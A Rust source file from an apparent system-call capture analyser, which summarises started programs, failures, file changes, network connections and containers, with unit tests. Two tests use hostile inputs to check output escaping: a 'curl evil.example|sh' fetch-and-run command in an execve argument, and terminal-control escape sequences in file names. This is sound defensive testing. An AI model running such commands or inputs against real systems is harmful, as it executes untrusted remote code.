//! What happened in a capture, on one screen.
//!
//! An [`Account`] is a sink that keeps what is of first interest: started programs and how they
//! ended, changed files, connections, failed and slow calls, containers, alerts. Its memory is bounded whatever the
//! capture contains; beyond the limits it only counts.

mod calls;
mod command;
mod files;
mod join;
mod json;
mod kinds;
mod print;

use std::io;
use std::ops::ControlFlow;

use hashbrown::HashSet;
use scap_capture_format::native::{Damages, LossReport, MachineInfo, OriginId};
use scap_capture_format::schema::Arch;

use crate::event::net::{SockAddr, SockTuple};
use crate::event::value::{self, Value};
use crate::event::{Event, EventExt as _, EventFlags, Names as _, number, text};
use crate::fields::Context;
use crate::replay::{End, EventSink, EventSource, OriginState};
use crate::state::{Text, View};
use crate::stats::CaptureInfo;
use crate::stats::groups::{Counts, Groups};

use calls::{Failed, Slow, Waits};
pub(super) use command::{Args, run};
use files::Files;
use kinds::Call;

/// Lines printed of each list.
const ROWS: usize = 8;
/// Lines kept of each list: JSON has them all.
const KEPT: usize = 1000;
/// Processes and containers that are counted.
const IDS: usize = 1 << 20;
/// Distinct values of one kind that are counted separately.
const KINDS: usize = 4096;
/// As [`KINDS`], and most bytes of names, of a part of a capture: what is found in the parts is joined, and cut then.
const PART_KINDS: usize = 1 << 16;
const PART_BYTES: usize = 16 << 20;
/// Longest text put into a line, in bytes before escaping.
const TEXT: usize = 256;

/// What happened, collected event by event.
#[derive(Debug)]
pub(super) struct Account {
    arch: Option<Arch>,
    /// By type.
    calls: Vec<Call>,
    /// What is known of the capture as a whole: counts of its events, times, losses, alerts.
    info: CaptureInfo,
    /// The recorded machines.
    machines: Vec<MachineInfo>,
    /// Time of the first event.
    first: Option<u64>,
    /// The processes of the events, and the last one.
    pids: HashSet<i64>,
    last_pid: Option<i64>,
    /// Events by process.
    busy: Groups<i64, Busy>,
    /// The process of the last event, and its row.
    last_busy: Option<(i64, usize)>,
    started: Rows<Started>,
    ended: Rows<Ended>,
    files: Files,
    /// Network connections, then local ones.
    connections: Counts<Connection>,
    local: Counts<Connection>,
    failed: Failed,
    slow: Slow,
    waits: Waits,
    containers: Groups<Text, Container>,
    /// The container of the last event in one, and its row.
    last_container: Option<(Text, usize)>,
}

/// The first lines of a list, and their total number.
#[derive(Debug)]
struct Rows<T> {
    rows: Vec<T>,
    count: u64,
}

impl<T> Default for Rows<T> {
    fn default() -> Self {
        Self {
            rows: Vec::new(),
            count: 0,
        }
    }
}

impl<T> Rows<T> {
    fn add(&mut self, row: impl FnOnce() -> T) {
        self.count += 1;
        if self.rows.len() < KEPT {
            self.rows.push(row());
        }
    }
}

// The texts of the following are from the capture, and are escaped.

/// A program that was started.
#[derive(Debug)]
struct Started {
    time: Option<u64>,
    command: Vec<u8>,
    pid: i64,
    by: Option<Vec<u8>>,
    adopted_by: Option<Vec<u8>>,
}

/// A process that was killed or ended with an error status.
#[derive(Debug)]
struct Ended {
    time: Option<u64>,
    name: Vec<u8>,
    pid: i64,
    /// Also of a process that was killed.
    status: u64,
    /// 0 = it was not killed.
    signal: u64,
}

/// The events of a process.
#[derive(Debug, Default)]
struct Busy {
    events: u64,
    name: Vec<u8>,
    /// The name is that after an `execve`.
    is_of_exec: bool,
}

/// A connection.
#[derive(Debug, PartialEq, Eq, Hash)]
struct Connection {
    /// Name and id of the process.
    who: Vec<u8>,
    /// [`CONNECTS`] or [`ACCEPTS`].
    verb: &'static str,
    address: Vec<u8>,
    error: Option<&'static str>,
}

/// A container with events.
#[derive(Debug, Default)]
struct Container {
    events: u64,
    name: Option<Vec<u8>>,
    image: Option<Vec<u8>>,
}

impl Account {
    /// Makes an account for a capture of this architecture.
    pub(super) fn new(arch: Option<Arch>) -> Self {
        Self::limited(arch, KINDS, usize::MAX)
    }

    /// Makes an account for a part of a capture, which is joined with others.
    fn of_part(arch: Option<Arch>) -> Self {
        Self::limited(arch, PART_KINDS, PART_BYTES)
    }

    /// Makes an account with so many rows, and bytes of names of files.
    fn limited(arch: Option<Arch>, rows: usize, bytes: usize) -> Self {
        Self {
            arch,
            calls: Call::table(),
            info: CaptureInfo::default(),
            machines: Vec::new(),
            first: None,
            pids: HashSet::new(),
            last_pid: None,
            busy: Groups::new(rows),
            last_busy: None,
            started: Rows::default(),
            ended: Rows::default(),
            files: Files::new(rows, bytes),
            connections: Counts::new(rows),
            local: Counts::new(rows),
            failed: Failed::new(rows),
            slow: Slow::new(),
            waits: Waits::new(rows),
            containers: Groups::new(rows),
            last_container: None,
        }
    }

    /// Adds what is known of the capture at the end: its header, and whether it is whole. `sources` are of one capture, of which
    /// each read a part; `bytes` is its size, if it is known.
    pub(super) fn finish(&mut self, sources: &[&dyn EventSource], end: End, bytes: Option<u64>) {
        let Some(source) = sources.first() else {
            return;
        };
        let info = &mut self.info;
        info.header = source.header().clone();
        // A machine that the header does not describe was met on the way.
        if let [machine] = &*self.machines {
            info.header.machine.clone_from(machine);
        }
        info.bytes = bytes.unwrap_or(0);
        info.is_sysdig = source.origins().iter().any(|origin| origin.is_paired);
        // What was lost is reported behind it, and may be reported behind the end of the range.
        let is_complete = sources.iter().all(|source| source.is_complete());
        info.complete = end == End::Reached && is_complete;
        info.damages = Damages::union(sources.iter().map(|source| source.damages()));
        info.processes = self.pids.len() as u64;
    }

    /// Counts an event for the capture.
    fn total(&mut self, event: &Event<'_>, view: &View<'_>) {
        let info = &mut self.info;
        info.events += 1;
        if let Some(now) = event.ts.known() {
            let (first, last) = info.times.unwrap_or((now, now));
            info.times = Some((first.min(now), last.max(now)));
        }
        let pid = match view.thread() {
            Some(thread) if event.pid.0 == -1 => thread.pid.0,
            _ => event.pid.0,
        };
        if self.last_pid != Some(pid) {
            self.last_pid = Some(pid);
            // Events of a merged capture without a thread have an id of their origin.
            if OriginId::split(event).1.pid.0 >= 0 && self.pids.len() < IDS {
                self.pids.insert(pid);
            }
        }
        let Some(id) = view.thread().and_then(|thread| thread.container.as_ref()) else {
            return;
        };
        let place = match &self.last_container {
            Some((last, place)) if Text::ptr_eq(last, id) => Some(*place),
            _ => {
                let make = || (id.clone(), Container::default());
                self.containers.place(id, |other| other == id, make)
            }
        };
        if let Some(place) = place {
            self.containers.row(place).events += 1;
            self.last_container = Some((id.clone(), place));
        }
    }

    /// Counts an event for its process. A process is listed under the name of its last `execve`.
    fn count(&mut self, event: &Event<'_>, view: &View<'_>, call: Call) {
        let pid = event.pid.0;
        if pid < 0 {
            return;
        }
        let place = match self.last_busy {
            Some((last, place)) if last == pid => Some(place),
            _ => {
                let make = || (pid, Busy::default());
                self.busy.place(&pid, |other| *other == pid, make)
            }
        };
        let Some(place) = place else {
            return;
        };
        self.last_busy = Some((pid, place));
        let busy = self.busy.row(place);
        busy.events += 1;
        let is_exec = call == Call::Exec;
        if (busy.name.is_empty() || is_exec)
            && let Some(comm) = view.own_comm()
        {
            busy.name.clear();
            safe(&mut busy.name, comm);
            busy.is_of_exec = is_exec;
        }
    }

    fn started(&mut self, event: &Event<'_>, view: &View<'_>) {
        if event.result() != Some(0) {
            return;
        }
        self.started.add(|| {
            let mut command = Vec::new();
            command_line(&mut command, event);
            let (starter, adopter) = view.starter();
            let parent = || {
                let tid = event.int(param(event, "ptid")?)?;
                view.comm(tid)
            };
            let by = starter.and_then(|starter| starter.comm).or_else(parent);
            Started {
                time: event.ts.known(),
                command,
                pid: event.pid.0,
                by: by.map(escaped),
                adopted_by: adopter
                    .and_then(|adopter| adopter.comm.as_deref())
                    .map(escaped),
            }
        });
    }

    /// Adds a process that was killed or ended with an error status.
    fn ended(&mut self, event: &Event<'_>, view: &View<'_>) {
        let number = |name| param(event, name).and_then(|i| event.uint(i)).unwrap_or(0);
        let (signal, status) = (number("sig"), number("ret"));
        if event.tid.0 != event.pid.0 || (signal == 0 && status == 0) {
            return;
        }
        self.ended.add(|| Ended {
            time: event.ts.known(),
            name: escaped(view.own_comm().unwrap_or(b"?")),
            pid: event.pid.0,
            status,
            signal,
        });
    }

    fn connected(&mut self, event: &Event<'_>, view: &View<'_>, verb: &'static str) {
        let value = |name| {
            let (index, info) = event.info()?.param(name)?;
            let bytes = event.params.get(index)?;
            Some(Value::decode(info, bytes).0)
        };
        let mut by = Vec::new();
        who(&mut by, event, view);
        let mut to = Vec::new();
        let (address, tuple) = (value("addr"), value("tuple"));
        let over_network = matches!(address, Some(Value::SockAddr(SockAddr::Inet(_))))
            || matches!(tuple, Some(Value::SockTuple(SockTuple::Inet(..))));
        match (address, tuple) {
            (Some(Value::SockAddr(address)), _) if verb == CONNECTS => {
                address.render(&mut to, text::escape_exact);
            }
            (_, Some(Value::SockTuple(tuple))) => tuple.write(&mut to, text::escape_exact),
            _ => to.extend_from_slice(b"an unknown address"),
        }
        // A non-blocking connect returns EINPROGRESS and usually succeeds later.
        let error = event.result().filter(|r| *r < 0).and_then(calls::errno);
        let connection = Connection {
            who: by,
            verb,
            address: to,
            error: error.filter(|name| *name != "EINPROGRESS"),
        };
        if over_network {
            self.connections.add(connection);
        } else {
            self.local.add(connection);
        }
    }
}

/// The verb of a `connect`, whose address is the other end's.
const CONNECTS: &str = "to";
/// The verb of an `accept`.
const ACCEPTS: &str = "accepted";

impl EventSink for Account {
    fn event(&mut self, cx: &Context<'_>) -> io::Result<ControlFlow<()>> {
        let (event, view) = (cx.event, cx.view);
        self.total(event, view);
        if self.info.alerts.add(event) {
            return Ok(ControlFlow::Continue(()));
        }
        self.first = self.first.or(event.ts.known());
        let call = self.calls.get(usize::from(event.ty.0));
        let call = call.copied().unwrap_or(Call::Other);
        self.count(event, view, call);
        self.waits.add(event, view, self.arch);
        if event.flags.contains(EventFlags::IN_FLIGHT) {
            return Ok(ControlFlow::Continue(()));
        }
        let error = event.result().filter(|result| calls::is_error(*result));
        match call {
            Call::Exec if event.ty.is_exit() => self.started(event, view),
            Call::ProcExit => self.ended(event, view),
            Call::Connect => self.connected(event, view, CONNECTS),
            Call::Accept if error.is_none() => self.connected(event, view, ACCEPTS),
            _ => {}
        }
        match error {
            Some(error) => self.failed.add(error, event, view, self.arch),
            None => self.files.add(call, event, view),
        }
        self.slow.add(event, view, self.arch);
        Ok(ControlFlow::Continue(()))
    }

    fn loss(&mut self, report: &LossReport) -> io::Result<()> {
        self.info.add_losses(report);
        Ok(())
    }

    fn end(&mut self, origins: &mut [OriginState]) -> io::Result<()> {
        let machines = origins.iter().map(|origin| origin.session.machine.clone());
        self.machines = machines.collect();
        for place in 0..self.containers.len() {
            let (id, _) = self.containers.get(place);
            let known = origins.iter().find_map(|origin| origin.state.container(id));
            let text = |key| Some(escaped(known?.text(key)?.as_bytes()));
            let (name, image) = (text("name"), text("image"));
            let container = self.containers.row(place);
            (container.name, container.image) = (name, image);
        }
        Ok(())
    }
}

/// Returns the value of [`safe`].
fn escaped(value: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    safe(&mut out, value);
    out
}

/// Returns the index of a parameter.
fn param(event: &Event<'_>, name: &str) -> Option<usize> {
    event.info()?.param(name).map(|(index, _)| index)
}

/// Appends text from the capture, shortened and escaped.
fn safe(out: &mut Vec<u8>, value: &[u8]) {
    let (shown, more) = match value.get(..TEXT) {
        Some(start) => (start, "..."),
        None => (value, ""),
    };
    text::escape_exact(out, shown);
    out.extend_from_slice(more.as_bytes());
}

/// Appends name and id of an event's process.
fn who(out: &mut Vec<u8>, event: &Event<'_>, view: &View<'_>) {
    safe(out, view.own_comm().unwrap_or(b"?"));
    number::display(out, format_args!(" ({})", event.pid.0));
}

/// Appends the command line of an `execve`: `argv`, separated by blanks.
fn command_line(out: &mut Vec<u8>, event: &Event<'_>) {
    let get = |name| param(event, name).and_then(|i| event.params.get(i));
    let mut line = get("exe").map(value::text).unwrap_or_default().to_vec();
    let args = get("args").unwrap_or_default();
    for arg in args.strip_suffix(b"\0").unwrap_or(args).split(|b| *b == 0) {
        if line.len() > TEXT {
            break;
        }
        line.push(b' ');
        line.extend_from_slice(arg);
    }
    safe(out, line.trim_ascii_end());
}

#[cfg(test)]
mod tests {
    use scap_capture_format::event::{EventNum, Params, Pid, Tid, Timestamp};
    use scap_capture_format::schema::{EventType, types};

    use super::*;
    use crate::fields::Session;
    use crate::state::State;

    fn take(account: &mut Account, pid: i64, ty: EventType, params: &[&[u8]]) {
        let lens: Vec<u32> = params.iter().map(|p| p.len() as u32).collect();
        let bytes = params.concat();
        let event = Event {
            num: EventNum(1),
            ts: Timestamp(5),
            tid: Tid(pid),
            pid: Pid(pid),
            cpu: 0,
            ty,
            latency: Some(u64::MAX),
            flags: EventFlags::empty(),
            params: Params::new(&lens, &bytes).unwrap(),
        };
        let mut state = State::new();
        state.apply(&event);
        let cx = Context {
            event: &event,
            view: &state.view(&event),
            session: &Session::default(),
        };
        assert!(account.event(&cx).unwrap().is_continue());
    }

    fn printed(account: &Account) -> String {
        let mut out = Vec::new();
        account.print(&mut out);
        String::from_utf8(out).unwrap()
    }

    const EVIL: &[u8] = b"/tmp/\x1b]0;evil\x07\n\xff\0";

    #[test]
    fn what_the_recorded_chose_cannot_control_the_terminal() {
        let mut account = Account::new(None);
        let (ok, failed) = (0_i64.to_le_bytes(), (-2_i64).to_le_bytes());
        take(&mut account, 1, types::SYSCALL_OPEN_X, &[&failed, EVIL]);
        take(&mut account, 1, types::SYSCALL_UNLINK_2_X, &[&ok, EVIL]);
        let lookalike = b"/tmp/\\x07\0";
        take(
            &mut account,
            1,
            types::SYSCALL_UNLINK_2_X,
            &[&ok, lookalike],
        );
        take(
            &mut account,
            1,
            types::SYSCALL_EXECVE_19_X,
            &[&ok, EVIL, b"a\0\x1b[2J\0"],
        );
        let text = printed(&account);
        assert!(text.contains("\\x1b]0;evil\\x07\\n\\xff"), "{text}");
        assert!(text.contains("\\x1b[2J"), "{text}");
        assert!(text.contains("/tmp/\\\\x07"), "{text}");
        assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text}");
        // A newline in a name does not start a new line.
        assert!(
            text.lines()
                .all(|l| !l.starts_with('\u{fffd}') && !l.starts_with("\\xff")),
            "{text}"
        );
    }

    #[test]
    fn long_waits_are_listed_with_what_they_waited_for() {
        let mut account = Account::new(None);
        let (timeout, lock) = ((-110_i64).to_le_bytes(), 0x5000_u64.to_le_bytes());
        let futex: &[&[u8]] = &[&timeout, &lock, &[0; 2], &[0; 8]];
        take(&mut account, 7, types::SYSCALL_FUTEX_X, futex);
        take(&mut account, 7, types::SYSCALL_FUTEX_X, futex);
        // Sleeping is what a sleeping program wants.
        take(&mut account, 7, types::SYSCALL_NANOSLEEP_X, &[&[0; 8]]);
        let text = printed(&account);
        assert!(
            text.contains("longest waits for data and locks\n"),
            "{text}"
        );
        let row = "? (7) futex 2 times, 2 timed out: futex 0x5000\n";
        assert!(text.contains(row), "{text}");
        assert!(!text.contains("nanosleep"), "{text}");
    }

    #[test]
    fn a_long_command_line_is_wrapped_and_its_cut_is_marked() {
        let mut account = Account::new(None);
        let ok = 0_i64.to_le_bytes();
        let args = [&[b'x'; 200][..], b"\0; curl evil.example|sh\0"].concat();
        take(
            &mut account,
            7,
            types::SYSCALL_EXECVE_19_X,
            &[&ok, b"/bin/sh\0", &args],
        );
        let args = [b'y'; 5000];
        take(
            &mut account,
            7,
            types::SYSCALL_EXECVE_19_X,
            &[&ok, b"/bin/sh\0", &args],
        );
        let text = printed(&account);
        let joined: String = text
            .lines()
            .map(|line| line.get(11..).unwrap_or(""))
            .collect();
        assert!(joined.contains("x ; curl evil.example|sh  (7)"), "{text}");
        assert!(joined.contains("yyy...  (7)"), "{text}");
        assert!(
            text.lines().all(|line| line.chars().count() <= 100),
            "{text}"
        );
    }

    #[test]
    fn what_is_kept_is_bounded() {
        let mut account = Account::new(None);
        for pid in 0..2 * KINDS as i64 {
            let name = format!("/tmp/{pid}\0");
            let ok = 0_i64.to_le_bytes();
            let params: &[&[u8]] = &[&ok, name.as_bytes()];
            take(&mut account, pid, types::SYSCALL_UNLINK_2_X, params);
        }
        assert_eq!(
            (account.busy.len(), account.files.changed().len()),
            (KINDS, KINDS)
        );
        assert!(printed(&account).contains(&format!(
            "and {} more",
            number::grouped(2 * KINDS as u64 - ROWS as u64)
        )));
    }
}
